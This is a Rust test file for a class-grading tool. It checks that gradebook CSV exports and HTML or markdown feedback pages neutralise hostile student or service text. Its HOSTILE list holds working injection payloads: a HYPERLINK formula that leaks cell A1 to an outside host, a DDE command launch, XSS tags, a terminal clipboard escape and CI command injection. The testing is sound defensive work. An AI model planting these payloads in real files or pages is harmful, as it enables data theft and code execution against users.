//! Hostile words wherever a student or a service can put them, in every
//! gradebook and on every page: no spreadsheet runs them, and no browser or
//! terminal.

#[path = "common/sample.rs"]
mod sample;

use dozen_class::{
    feedback::{Detail, class_page, markdown, student_page},
    gradebook::Format,
    roster::Roster,
    standing::Class,
};
use dozen_model::{Act, Moment, Output};
use sample::class;

const SETTINGS: &str = "deadline = \"2026-12-02 12:00\"\n\
    late = { policy = \"percent\", percent = 25 }\n\
    gradebook = { canvas_assignment = \"Port binding (1234)\", moodle_item = \"Port binding\", \
    classroom = \"cs101\", assignment = \"port\" }";

const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://x.org/?\"&A1,\"see\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "a\n=1+1",
    "a\",\"=1+1",
    "a;=1+1",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "</style><svg onload=alert(1)>",
    "{{ 7 * 7 }}{% raw %}",
    "`````\n# heading\n<b>@ada</b>",
    "\u{1b}]52;c;QUFB\u{7}\u{1b}[2J\u{9b}31m",
    "::error::x\n::stop-commands::x",
    "##[error]x",
    "\u{202e}gnirts\u{fffe}",
];

/// The class in which every text of a student's or a service's is `text`.
fn filled(text: &str) -> Class {
    let mut class = class(SETTINGS);
    let mut roster = csv::Writer::from_writer(Vec::new());
    let head = "key,name,canvas_id,sis_login_id,section,moodle_idnumber,forge";
    roster.write_record(head.split(',')).unwrap();
    for (place, student) in ["ada", "bob", "cid", "dan", "eve"].iter().enumerate() {
        let (canvas, moodle) = (format!("4{place}"), format!("m{place}"));
        let row = [student, text, &canvas, text, text, &moodle, student];
        roster.write_record(row).unwrap();
    }
    let roster = String::from_utf8(roster.into_inner().unwrap()).unwrap();
    class.roster = Roster::parse(&roster).unwrap();
    for (hand_in, _) in &mut class.hand_ins {
        hand_in.name = text.to_owned();
    }
    for entry in &mut class.results {
        let exercise = &mut entry.report.exercises[0];
        exercise.messages = vec![text.to_owned()];
        for check in &mut exercise.checks {
            check.trace = vec![moment(text)];
            if let Some(finding) = &mut check.finding {
                for part in [
                    &mut finding.did,
                    &mut finding.expected,
                    &mut finding.observed,
                ] {
                    *part = text.to_owned();
                }
                finding.output = vec![Output {
                    lane: "web.1".into(),
                    stream: "stdout".into(),
                    text: text.to_owned(),
                }];
            }
        }
    }
    class
}

fn moment(text: &str) -> Moment {
    Moment {
        t_ms: 1,
        lane: "web.1".into(),
        act: Act::Request,
        detail: text.to_owned(),
        seen: Some(text.to_owned()),
        ok: false,
        expected: Some(text.to_owned()),
        step: None,
    }
}

/// Whether a spreadsheet takes the cell for a formula, which a number is not.
fn runs(cell: &str) -> bool {
    let is_blank = |c: char| c.is_whitespace() || c.is_control() || c == '\u{feff}';
    let cell = cell.trim_start_matches(is_blank);
    cell.starts_with(['=', '+', '-', '@']) && cell.parse::<f64>().is_err()
}

#[test]
fn no_cell_of_a_gradebook_runs_and_every_other_file_is_json() {
    for text in HOSTILE {
        let class = filled(text);
        let rows = class.standing().unwrap();
        for format in Format::ALL {
            for (name, bytes) in format.write(&class, &rows).files {
                let shown = String::from_utf8(bytes).unwrap();
                if !name.ends_with(".csv") {
                    serde_json::from_str::<serde_json::Value>(&shown).unwrap();
                    continue;
                }
                let mut table = csv::ReaderBuilder::new();
                let mut table = table.has_headers(false).from_reader(shown.as_bytes());
                let mut cells = 0;
                for row in table.records().map(Result::unwrap) {
                    for cell in &row {
                        assert!(!runs(cell), "{format}, {text:?}: {cell:?}");
                        assert!(!cell.contains(char::is_control), "{format}: {cell:?}");
                        cells += 1;
                    }
                }
                assert!(cells > 8, "{format}: {shown}");
            }
        }
    }
}

#[test]
fn no_page_runs_what_a_student_or_a_service_said() {
    for text in HOSTILE {
        let class = filled(text);
        let rows = class.standing().unwrap();
        let mut pages = vec![class_page(&class, &rows, &class.stats(&rows)).unwrap()];
        for row in &rows {
            pages.push(student_page(&class, row, Detail::Full).unwrap());
        }
        for page in pages {
            for tag in ["<script", "<img", "<svg onload", "onerror=alert(1)>"] {
                assert!(!page.contains(tag), "{text:?}: {tag} in {page}");
            }
            assert_eq!(page.matches("</style>").count(), 1, "{text:?}");
            assert!(!page.contains(acts), "{text:?}: {page}");
        }
        for row in &rows {
            let written = markdown(&class, row, Detail::Full);
            assert!(!written.contains(acts), "{text:?}: {written}");
            assert!(is_plain(&written), "{text:?}: {written}");
        }
    }
}

/// Whether a character acts on a terminal or a reader.
fn acts(c: char) -> bool {
    c != '\n' && c.is_control() || matches!(c, '\u{202e}' | '\u{feff}' | '\u{fffe}')
}

/// Whether nothing outside a fence is a tag, a mention or a heading but the
/// page's own.
fn is_plain(markdown: &str) -> bool {
    let mut fence: Option<&str> = None;
    markdown.lines().all(|line| match fence {
        Some(end) => {
            fence = fence.filter(|_| line != end);
            true
        }
        None if line.starts_with("```") => {
            fence = Some(line.trim_end_matches("text"));
            true
        }
        None => {
            let is_ours = line.starts_with("# Baker") || line.starts_with("## 07-");
            let is_escaped = |(at, _): (usize, &str)| line[..at].ends_with('\\');
            line.match_indices(['<', '@', '`']).all(is_escaped)
                && (is_ours || !line.starts_with('#'))
        }
    })
}
